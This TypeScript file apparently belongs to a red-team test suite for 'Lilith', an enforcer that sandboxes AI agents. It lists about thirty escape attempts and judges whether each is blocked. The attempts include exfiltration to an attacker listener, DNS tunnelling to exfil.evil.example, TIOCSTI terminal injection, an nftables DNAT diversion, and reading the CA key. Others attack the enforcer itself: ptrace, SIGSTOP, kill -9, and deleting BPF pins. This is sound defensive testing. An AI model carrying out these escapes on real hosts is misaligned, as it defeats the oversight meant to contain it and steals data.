// The escape attempts Lilith knows, each run as a real process against a real
// enforcer (kernel programs in cgroup-only mode on this host, the dataplane,
// lilith run confinement) and judged by what actually happened: did the data
// reach the attacker's listener, did the syscall fail, is the daemon alive.
import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { connect, createServer, type AddressInfo } from 'node:net';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { adminGet } from '../enforcer/client/index.js';
import type { RedteamEnv } from './env.js';
import { AttemptHung } from './hang.js';
import { runBounded } from './hang.js';
import { runInPty } from './pty.js';
import { TLS_ATTEMPTS } from './tls-attempts.js';

const CLI = fileURLToPath(new URL('../cli/main.js', import.meta.url));

export interface Outcome {
  blocked: boolean;
  detail: string;
}

export interface Attempt {
  id: string;
  what: string;
  /** The layer expected to stop it. */
  layer: 'kernel (cgroup BPF)' | 'dataplane' | 'seccomp' | 'landlock' | 'kernel (BPF-LSM)' | 'heartbeat' | 'capabilities';
  /**
   * 'blocked': must be blocked here. 'vm-only': needs BPF-LSM, which this
   * host's lockdown refuses; run on the VM kernels (npm run redteam -- --vm).
   * 'open': a known gap, reported honestly until it is closed (see `note`).
   */
  expect: 'blocked' | 'vm-only' | 'open';
  note?: string;
  /** The Landlock ABI the blocking layer needs; on an older kernel a pass is a kernel gap, reported, not failed. */
  minLandlockAbi?: number;
  run(env: RedteamEnv): Promise<Outcome>;
}

const EPERM = 1;

/** Data must not reach the attacker's listener, whatever the client saw. */
async function exfil(env: RedteamEnv, probeArgs: string[], channel: 'tcp' | 'tcp6' | 'udp'): Promise<Outcome> {
  const before = env.exfil.received(channel);
  const lines = await env.probeInAgent(probeArgs);
  await env.sleep(200);
  const after = env.exfil.received(channel);
  const last = lines.at(-1);
  return {
    blocked: after === before,
    detail: `${after === before ? 'nothing reached' : `${after - before} connection(s)/datagram(s) reached`} the ${channel} listener; client saw ${last ? (last.ok ? 'success (redirected)' : `${last.err}`) : 'no result'}`,
  };
}

async function syscallDenied(env: RedteamEnv, probeArgs: string[]): Promise<Outcome> {
  const [r] = await env.probeInAgent(probeArgs);
  return { blocked: !!r && !r.ok && r.errno === EPERM, detail: r ? (r.ok ? 'succeeded' : `failed: ${r.err}`) : 'no result' };
}

async function confinedProbe(
  env: RedteamEnv,
  attempt: string,
  arg?: string,
  profile?: string,
  agent?: 'coder' | 'native',
): Promise<Outcome & { errno?: number }> {
  const r = await env.runConfined([env.escapeProbe, attempt, ...(arg ? [arg] : [])], profile, agent);
  const line = r.stdout.trim().split('\n').at(-1) ?? '';
  let parsed: { ok: boolean; errno: number; error: string } | null = null;
  try {
    parsed = JSON.parse(line) as { ok: boolean; errno: number; error: string };
  } catch {
    return { blocked: false, detail: `no result (exit ${r.code}): ${r.stderr.trim().slice(0, 200)}` };
  }
  return {
    blocked: !parsed.ok,
    errno: parsed.errno,
    detail: parsed.ok ? `succeeded${parsed.error ? ` (${parsed.error})` : ''}` : `failed: ${parsed.error}`,
  };
}

/**
 * The agent, started by `lilith run` from a shell on a real terminal, pushes a
 * command into that terminal's input (TIOCSTI), also with the request's upper
 * 32 bits set (the kernel ignores them; a filter that compares them would not).
 * Blocked when the ioctl failed and the shell read nothing after the agent.
 */
async function terminalInjection(env: RedteamEnv): Promise<Outcome> {
  const command = `echo lilith-redteam-injected-${process.pid}`;
  const details: string[] = [];
  let blocked = true;
  for (const attempt of ['tiocsti', 'tiocsti_hibits']) {
    const r = await runInPty(
      [process.execPath, CLI, 'run', '--socket', env.adminSocket, '--agent', 'coder', '--', env.escapeProbe, attempt, command],
      process.env,
      env.commandTimeoutMs,
    );
    const probe = new RegExp(`\\{"attempt":"${attempt}","ok":(true|false),"errno":\\d+,"error":"([^"]*)"\\}`).exec(r.output);
    const failed = probe?.[1] === 'false';
    if (!failed || r.typed !== '') blocked = false;
    const ioctl = probe ? (failed ? `failed: ${probe[2]}` : 'succeeded') : `no result: ${r.output.trim().slice(-200)}`;
    details.push(
      `${attempt}: ${r.typed ? `the shell would run ${JSON.stringify(r.typed.trim())}` : 'nothing reached the shell'}, ioctl ${ioctl}`,
    );
  }
  return { blocked, detail: details.join('; ') };
}

const NFT = '/usr/sbin/nft';

/** Connects from this (unmanaged) process, as the proxy dials an upstream: true once connected. */
function dial(host: string, port: number): Promise<boolean> {
  return new Promise((resolve) => {
    const s = connect({ host, port }, () => {
      s.destroy();
      resolve(true);
    });
    s.on('error', () => resolve(false));
    s.setTimeout(3000, () => {
      s.destroy();
      resolve(false);
    });
  });
}

/** nft's own complaint, not lilith run's warnings before it. */
const nftError = (stderr: string): string =>
  (
    stderr
      .trim()
      .split('\n')
      .filter((l) => !l.startsWith('lilith'))
      .at(-1) ?? ''
  )
    .trim()
    .slice(0, 160);

/** Whether an nftables table exists, asked from outside the agent. */
async function nftTableExists(table: string): Promise<boolean> {
  return (await runBounded(NFT, ['list', 'table', 'ip', table])).code === 0;
}

/**
 * The agent (root, under lilith run) runs the real nft to add a DNAT rule in the
 * nat output hook rewriting a permitted upstream (a listener of ours) to the
 * attacker's listener: the proxy would decide and audit the upstream while its
 * bytes went to the attacker. A control run of the same ruleset outside the
 * agent proves the rule would work on this kernel (it is removed at once).
 * Blocked when the agent's nft failed, no table exists afterwards (checked with
 * nft from outside) and a dial of the upstream still reaches the upstream. Any
 * table the attempt leaves is deleted: no host state survives it.
 */
async function nftDnat(env: RedteamEnv): Promise<Outcome> {
  if (!existsSync(NFT))
    return { blocked: false, detail: `${NFT} is missing (Debian package nftables, scripts/apt-packages.txt): the attempt cannot run` };
  const table = `lilith_redteam_${process.pid}`;
  let upstreamHits = 0;
  const upstream = createServer((c) => {
    upstreamHits++;
    c.destroy();
  });
  const upstreamHost = '127.0.0.3';
  await new Promise<void>((r) => upstream.listen(0, upstreamHost, r));
  const upstreamPort = (upstream.address() as AddressInfo).port;
  const ruleset = join(dirname(env.copiedBinary), `dnat-${process.pid}.nft`);
  writeFileSync(
    ruleset,
    `table ip ${table} {\n  chain out {\n    type nat hook output priority -100; policy accept;\n` +
      `    ip daddr ${upstreamHost} tcp dport ${upstreamPort} dnat to ${env.exfil.host4}:${env.exfil.tcpPort}\n  }\n}\n`,
  );
  const cleanup = async () => {
    if (await nftTableExists(table)) await runBounded(NFT, ['delete', 'table', 'ip', table]);
  };
  try {
    // Control: the ruleset works on this kernel when nothing confines the caller.
    const control = await runBounded(NFT, ['-f', ruleset]);
    let controlNote: string;
    if (control.code === 0) {
      const before = env.exfil.received('tcp');
      await dial(upstreamHost, upstreamPort);
      await env.sleep(100);
      const diverted = env.exfil.received('tcp') > before;
      await cleanup();
      controlNote = `control: unconfined nft added the rule${diverted ? ' and it diverted a dial to the attacker' : ' (no diversion seen)'}`;
    } else {
      controlNote = `control: nft cannot add the table unconfined either on this kernel (${nftError(control.stderr)}): no nf_tables here, nothing to divert`;
    }
    const attempt = await env.runConfined([NFT, '-f', ruleset]);
    const added = await nftTableExists(table);
    const before = { upstream: upstreamHits, attacker: env.exfil.received('tcp') };
    const reached = await dial(upstreamHost, upstreamPort);
    await env.sleep(100);
    const toUpstream = upstreamHits > before.upstream;
    const toAttacker = env.exfil.received('tcp') > before.attacker;
    const failed = attempt.code !== 0;
    return {
      blocked: failed && !added && reached && toUpstream && !toAttacker,
      detail:
        `agent's nft ${failed ? `failed (exit ${attempt.code}: ${nftError(attempt.stderr)})` : 'succeeded'}; ` +
        `nft list from outside: ${added ? `table ${table} EXISTS` : 'no table'}; the upstream dial went to ` +
        `${toAttacker ? 'the ATTACKER' : toUpstream ? 'the permitted upstream' : 'nowhere'}; ${controlNote}`,
    };
  } finally {
    await cleanup();
    upstream.close();
  }
}

/** Process state letter from /proc/PID/stat ('T' = stopped). */
function procState(pid: number): string {
  try {
    const stat = readFileSync(`/proc/${pid}/stat`, 'utf8');
    return stat.charAt(stat.lastIndexOf(')') + 2);
  } catch {
    return 'gone';
  }
}

/**
 * A managed, unconfined process runs `args(daemonPid)` `times` times. Blocked
 * when every try failed with EPERM and the enforcer is not stopped; a stopped
 * enforcer is continued afterwards so the attempts after this one still have it.
 */
async function againstDaemon(env: RedteamEnv, args: (pid: number) => string[], times: number): Promise<Outcome> {
  const pid = env.daemonPid();
  let succeeded = 0;
  let last = '';
  for (let i = 0; i < times; i++) {
    const [r] = await env.probeInAgent(args(pid));
    if (r?.ok) succeeded++;
    last = r ? (r.ok ? 'succeeded' : r.err) : 'no result';
  }
  await env.sleep(200);
  const state = procState(pid);
  const stopped = state === 'T' || state === 't';
  if (stopped) process.kill(pid, 'SIGCONT');
  return {
    blocked: succeeded === 0 && !stopped,
    detail: `${succeeded}/${times} succeeded (last: ${last}); enforcer state ${state}${stopped ? ' (stopped: continued by the red team)' : ''}`,
  };
}

/** A confined agent (Node) connects to a unix socket path or abstract name. */
async function unixConnect(env: RedteamEnv, path: string): Promise<Outcome> {
  const script = `const s=require('net').connect(${JSON.stringify(path)});s.on('connect',()=>{console.log('CONNECTED');s.destroy()});s.on('error',e=>console.log(e.code))`;
  const r = await env.runConfined([process.execPath, '-e', script]);
  const out = r.stdout.trim();
  return { blocked: out !== 'CONNECTED', detail: out || r.stderr.trim().slice(0, 200) };
}

export const ATTEMPTS: Attempt[] = [
  {
    id: 'tcp-exfil',
    what: 'TCP connect straight to an attacker host',
    layer: 'kernel (cgroup BPF)',
    expect: 'blocked',
    run: (env) => exfil(env, ['connect', env.exfil.host4, String(env.exfil.tcpPort)], 'tcp'),
  },
  {
    id: 'ipv6-exfil',
    what: 'TCP over IPv6 (connect4 alone would miss it)',
    layer: 'kernel (cgroup BPF)',
    expect: 'blocked',
    run: (env) => exfil(env, ['connect', '::1', String(env.exfil.tcp6Port)], 'tcp6'),
  },
  {
    id: 'v4mapped-exfil',
    what: 'TCP to a v4-mapped IPv6 address (::ffff:a.b.c.d)',
    layer: 'kernel (cgroup BPF)',
    expect: 'blocked',
    run: (env) => exfil(env, ['connect', `::ffff:${env.exfil.host4}`, String(env.exfil.tcpPort)], 'tcp'),
  },
  {
    id: 'tfo-exfil',
    what: 'TCP Fast Open: sendto(MSG_FASTOPEN) connects without connect()',
    layer: 'kernel (cgroup BPF)',
    expect: 'blocked',
    run: (env) => exfil(env, ['tfo', env.exfil.host4, String(env.exfil.tcpPort)], 'tcp'),
  },
  {
    id: 'udp-exfil',
    what: 'UDP datagram to an attacker host',
    layer: 'kernel (cgroup BPF)',
    expect: 'blocked',
    run: (env) => exfil(env, ['udp', env.exfil.host4, String(env.exfil.udpPort)], 'udp'),
  },
  {
    id: 'dns-tunnel',
    what: 'DNS tunnelling: data encoded in a query name to an attacker resolver',
    layer: 'dataplane',
    expect: 'blocked',
    async run(env) {
      const before = env.exfil.received('dns');
      const answer = await env.dnsQueryInAgent('c2VjcmV0LWRhdGE.exfil.evil.example', env.exfil.host4);
      await env.sleep(200);
      const reached = env.exfil.received('dns') - before;
      return {
        blocked: reached === 0 && answer !== 'NOERROR',
        detail: `attacker resolver got ${reached} queries; the agent got ${answer}`,
      };
    },
  },
  {
    id: 'raw-socket',
    what: 'raw IP socket (ICMP tunnelling, spoofing)',
    layer: 'kernel (cgroup BPF)',
    expect: 'blocked',
    run: (env) => syscallDenied(env, ['raw']),
  },
  {
    id: 'packet-socket',
    what: 'AF_PACKET socket (layer-2 injection), managed but unconfined',
    layer: 'kernel (BPF-LSM)',
    expect: 'vm-only',
    note: 'cgroup/sock_create only runs for inet sockets (inet_create/inet6_create); AF_PACKET needs the socket_create LSM hook or seccomp',
    run: (env) => syscallDenied(env, ['packet']),
  },
  {
    id: 'packet-socket-confined',
    what: 'AF_PACKET socket under lilith run',
    layer: 'seccomp',
    expect: 'blocked',
    run: (env) => confinedProbe(env, 'packet_socket'),
  },
  {
    id: 'daemonized-child',
    what: 'double fork + setsid, then connect out',
    layer: 'kernel (cgroup BPF)',
    expect: 'blocked',
    run: (env) => exfil(env, ['daemonize', 'connect', env.exfil.host4, String(env.exfil.tcpPort)], 'tcp'),
  },
  {
    id: 'exec-new-binary',
    what: 'exec a binary that is not on the allowlist',
    layer: 'kernel (BPF-LSM)',
    expect: 'vm-only',
    async run(env) {
      const lines = await env.probeInAgent(['exec', env.copiedBinary, 'pid']);
      const ran = lines.some((l) => l.op === 'pid' && l.ok);
      return { blocked: !ran, detail: ran ? 'the copied binary ran (bprm_check_security needs BPF-LSM)' : 'exec refused' };
    },
  },
  {
    id: 'exec-other-identity',
    what: "exec a binary allowlisted for another identity (the native agent runs the coder's tool)",
    layer: 'kernel (BPF-LSM)',
    expect: 'vm-only',
    note: 'per-registration exec_allowlist, lil_exec_id keyed by (identity, inode): bprm_check_security. Without BPF-LSM (this host) a managed process outside lilith run is not stopped; under lilith run Landlock is (exec-other-identity-confined)',
    async run(env) {
      const ranAs = async (agent: 'coder' | 'native') =>
        (await env.probeInAgent(['exec', env.coderOnlyBinary, 'pid'], agent)).some((l) => l.op === 'pid' && l.ok);
      const coder = await ranAs('coder');
      const native = await ranAs('native');
      return {
        blocked: coder && !native,
        detail: `the coder ${coder ? 'ran it' : 'could not run it either (control failed)'}; the native agent ${native ? 'ran it' : 'was refused'}`,
      };
    },
  },
  {
    id: 'exec-other-identity-confined',
    what: "under lilith run, the native agent execs the coder's allowlisted tool",
    layer: 'landlock',
    expect: 'blocked',
    note: "the tool lives under a root only the coder's registration lists: Landlock refuses the exec on any kernel; with BPF-LSM the per-identity exec allowlist refuses it too (exec-other-identity)",
    async run(env) {
      const ran = async (agent: 'coder' | 'native') => {
        const r = await env.runConfined([env.coderOnlyBinary, 'pid'], undefined, agent);
        return { ok: /"op":"pid","ok":true/.test(r.stdout), why: r.stderr.trim().split('\n').at(-1)?.slice(0, 160) ?? '' };
      };
      const coder = await ran('coder');
      const native = await ran('native');
      return {
        blocked: coder.ok && !native.ok,
        detail: `the coder ${coder.ok ? 'ran it' : `could not run it either (control failed: ${coder.why})`}; the native agent ${native.ok ? 'ran it' : `was refused (${native.why})`}`,
      };
    },
  },
  {
    id: 'rwx-memory-strict',
    what: 'anonymous RWX mapping under the strict profile',
    layer: 'seccomp',
    expect: 'blocked',
    run: (env) => confinedProbe(env, 'mmap_rwx', undefined, 'strict'),
  },
  {
    id: 'rwx-memory-lsm',
    what: 'anonymous RWX mapping by a non-JIT agent (standard profile)',
    layer: 'kernel (BPF-LSM)',
    expect: 'vm-only',
    run: (env) => confinedProbe(env, 'mmap_rwx', undefined, undefined, 'native'),
  },
  {
    id: 'ptrace-daemon',
    what: 'ptrace the enforcer',
    layer: 'seccomp',
    expect: 'blocked',
    run: (env) => confinedProbe(env, 'ptrace', String(env.daemonPid())),
  },
  {
    id: 'signal-daemon',
    what: 'send a signal to the enforcer',
    layer: 'landlock',
    expect: 'blocked',
    note: 'Landlock scopes signals from ABI 6 (Linux 6.12); under BPF-LSM the task_kill hook blocks it on 6.1 too',
    minLandlockAbi: 6, // signal scoping: Linux 6.12 (without BPF-LSM)
    run: (env) => confinedProbe(env, 'kill', String(env.daemonPid())),
  },
  {
    id: 'ptrace-race-daemon',
    what: 'ptrace attach/detach race on the enforcer from a managed, unconfined process (leaves it stopped)',
    layer: 'kernel (BPF-LSM)',
    expect: 'vm-only',
    note: 'ptrace_access_check (lsm_guard) refuses the attach; without BPF-LSM the systemd watchdog restarts a stopped daemon (docs/deploy.md)',
    run: (env) => againstDaemon(env, (pid) => ['ptrace', String(pid)], 20),
  },
  {
    id: 'sigstop-daemon',
    what: 'SIGSTOP the enforcer from a managed, unconfined process',
    layer: 'kernel (BPF-LSM)',
    expect: 'vm-only',
    note: 'task_kill (lsm_guard) refuses signals to unmanaged processes, on 6.1 too; without BPF-LSM the systemd watchdog restarts a stopped daemon',
    run: (env) => againstDaemon(env, (pid) => ['kill', String(pid), '19'], 1),
  },
  {
    id: 'bpffs-pins',
    what: 'delete the pinned BPF links (detach enforcement)',
    layer: 'landlock',
    expect: 'blocked',
    async run(env) {
      const r = await env.runConfined(['/bin/sh', '-c', `rm -rf ${env.pinRoot}/* 2>&1; ls ${env.pinRoot} 2>&1`]);
      const intact = env.pinsIntact();
      return { blocked: intact, detail: intact ? `pins intact (${r.stdout.trim().split('\n')[0] ?? ''})` : 'pins removed' };
    },
  },
  {
    id: 'bpf-syscall',
    what: 'load BPF / touch maps with the bpf() syscall',
    layer: 'seccomp',
    expect: 'blocked',
    run: (env) => confinedProbe(env, 'bpf'),
  },
  {
    id: 'admin-socket',
    what: 'connect to a local daemon on a pathname unix socket (the enforcer admin socket)',
    layer: 'kernel (cgroup BPF)',
    expect: 'blocked',
    note: 'Landlock does not mediate connect() to pathname unix sockets: the kernel layer does, with an AF_UNIX allowlist (empty by default). Here (cgroup-only, Linux 6.7+) the cgroup connect_unix/sendmsg_unix programs; with BPF-LSM (6.1+) unix_stream_connect/unix_may_send. On a kernel older than 6.7 without BPF-LSM this stays open and kernel.hooks.missing says so.',
    run: (env) => unixConnect(env, env.adminSocket),
  },
  {
    id: 'abstract-unix',
    what: 'connect to a local daemon on an abstract unix socket',
    layer: 'landlock',
    expect: 'blocked',
    minLandlockAbi: 6, // abstract unix socket scoping: Linux 6.12
    run: (env) => unixConnect(env, env.abstractSocket),
  },
  {
    id: 'tiocsti-injection',
    what: 'push a command into the invoking shell through the terminal (ioctl TIOCSTI), run from a real pty',
    layer: 'seccomp',
    expect: 'blocked',
    note:
      'three locks: seccomp denies TIOCSTI/TIOCLINUX on the low 32 bits of the request, the agent runs in a new session without a controlling ' +
      'terminal, and without CAP_SYS_ADMIN the kernel refuses TIOCSTI on any other terminal',
    run: terminalInjection,
  },
  {
    id: 'mknod-device',
    what: 'create a character device node (a copy of /dev/null, standing in for /dev/mem or a disk)',
    layer: 'seccomp',
    expect: 'blocked',
    async run(env) {
      const node = join(dirname(env.copiedBinary), `chr-${process.pid}`);
      const outcome = await confinedProbe(env, 'mknod_chr', node);
      const made = existsSync(node);
      return { blocked: outcome.blocked && !made, detail: `${outcome.detail}${made ? '; the device node exists' : ''}` };
    },
  },
  {
    id: 'nft-dnat',
    what: "add an nftables DNAT rule with the real nft (as root under lilith run) rewriting a permitted upstream to the attacker's listener",
    layer: 'seccomp',
    expect: 'blocked',
    note: 'NETLINK_NETFILTER sockets are EPERM under seccomp, and the agent holds no CAP_NET_ADMIN; judged by nft list ruleset from outside and by where a dial of the upstream lands',
    run: nftDnat,
  },
  {
    id: 'netlink-netfilter',
    what: 'open a NETLINK_NETFILTER socket (the way to add an nftables DNAT rule)',
    layer: 'seccomp',
    expect: 'blocked',
    note: 'seccomp must answer EPERM at syscall entry: any other failure (EPROTONOSUPPORT) means the kernel went on to look for the nfnetlink module',
    async run(env) {
      const outcome = await confinedProbe(env, 'netlink', '12');
      if (!outcome.blocked || outcome.errno === EPERM) return outcome;
      return { blocked: false, detail: `${outcome.detail}: not seccomp's EPERM, the socket() call got past the filter` };
    },
  },
  {
    id: 'sctp-socket',
    what: 'open an SCTP socket (any inet protocol number loads its module on demand: SCTP, DCCP, ...)',
    layer: 'seccomp',
    expect: 'blocked',
    note: 'seccomp allows inet sockets for protocol 0, TCP, UDP and MPTCP only; EPERM at syscall entry, before any module autoload',
    async run(env) {
      const outcome = await confinedProbe(env, 'socket_proto', '132');
      if (!outcome.blocked || outcome.errno === EPERM) return outcome;
      return { blocked: false, detail: `${outcome.detail}: not seccomp's EPERM, the kernel went on to look for the protocol` };
    },
  },
  {
    id: 'ia32-syscalls',
    what: 'TIOCSTI and socket() through the i386 syscall ABI (int $0x80 from a 64-bit agent)',
    layer: 'seccomp',
    expect: 'blocked',
    note: 'the filter admits the native ABI only; any other kills the agent (SIGSYS) before the kernel runs the call',
    async run(env) {
      const details: string[] = [];
      let blocked = true;
      for (const attempt of ['ia32_tiocsti', 'ia32_socket']) {
        const outcome = await confinedProbe(env, attempt, 'id');
        const killed = /killed by signal 31/.test(outcome.detail);
        if (!outcome.blocked || !killed) blocked = false;
        details.push(`${attempt}: ${outcome.detail}`);
      }
      return { blocked, detail: details.join('; ') };
    },
  },
  {
    id: 'capabilities',
    what: 'keep root capabilities (CAP_NET_ADMIN, CAP_MKNOD, CAP_SYS_ADMIN...) in an agent started as root',
    layer: 'capabilities',
    expect: 'blocked',
    note: 'judged from /proc/self/status inside the agent: every set (CapInh, CapPrm, CapEff, CapBnd, CapAmb) must be 0',
    async run(env) {
      const outcome = await confinedProbe(env, 'caps');
      const sets = /Cap\w+=.*Cap\w+=[0-9a-f]+/.exec(outcome.detail)?.[0];
      const none = outcome.blocked && !!sets && /CapEff=0{16}/.test(sets) && /CapBnd=0{16}/.test(sets);
      return { blocked: none, detail: sets ? `${none ? 'no capability left' : 'capabilities held'}: ${sets}` : outcome.detail };
    },
  },
  {
    id: 'read-ca-key',
    what: "read the enforcer's interception CA key (it would mint certificates every agent under lilith run trusts)",
    layer: 'landlock',
    expect: 'blocked',
    note: 'the key directory (GET /v1/ca key_dir) is a Landlock secret: carved out of every root the registration allows, even one that contains it',
    async run(env) {
      const r = await adminGet(env.adminSocket, '/v1/ca', 10_000);
      let keyDir: string | undefined;
      try {
        keyDir = (JSON.parse(r.body) as { key_dir?: string }).key_dir;
      } catch {
        keyDir = undefined;
      }
      if (!keyDir) return { blocked: false, detail: `the daemon reported no CA key directory (${r.status})` };
      const out = await env.runConfined(['/bin/cat', join(keyDir, 'ca-key.pem')]);
      const leaked = out.stdout.includes('PRIVATE KEY');
      return { blocked: !leaked, detail: leaked ? 'the CA key was read' : `cat failed: ${out.stderr.trim().slice(0, 160)}` };
    },
  },
  // TLS and HTTP/2 (redteam/tls-attempts.ts). Before kill-daemon-then-exfil, which must stay last.
  ...TLS_ATTEMPTS,
  {
    id: 'kill-daemon-then-exfil',
    what: 'kill -9 the enforcer, then connect out (fail closed)',
    layer: 'heartbeat',
    expect: 'blocked',
    async run(env) {
      const killedAt = Date.now();
      await env.killDaemon();
      const lines = await env.probeInAgent(['until', 'denied', '3000', env.exfil.host4, String(env.exfil.tcpPort)]);
      const r = lines.at(-1);
      const before = env.exfil.received('tcp');
      const after = await exfil(env, ['connect', env.exfil.host4, String(env.exfil.tcpPort)], 'tcp');
      return {
        blocked: !!r?.ok && after.blocked && env.exfil.received('tcp') === before,
        detail: r?.ok
          ? `EPERM ${Date.now() - killedAt} ms after SIGKILL (TTL ${env.heartbeatTtlMs} ms); ${after.detail}`
          : `connects still allowed 3 s after SIGKILL: ${r?.err ?? 'no result'}`,
      };
    },
  },
];

/** The detail of an attempt that threw: a hang says what hung and where; anything else is a crash. */
export function failureDetail(err: unknown): string {
  return err instanceof AttemptHung ? err.message : `attempt crashed: ${(err as Error).message}`;
}

/** Why a pass of `a` is a gap of this kernel rather than a failure (its layer is missing here), or null. */
export function kernelGap(a: Attempt, env: Pick<RedteamEnv, 'landlockAbi'>): string | null {
  if (a.minLandlockAbi !== undefined && env.landlockAbi < a.minLandlockAbi)
    return `this kernel's Landlock ABI ${env.landlockAbi} < ${a.minLandlockAbi}: the ${a.layer} layer cannot block it here`;
  return null;
}
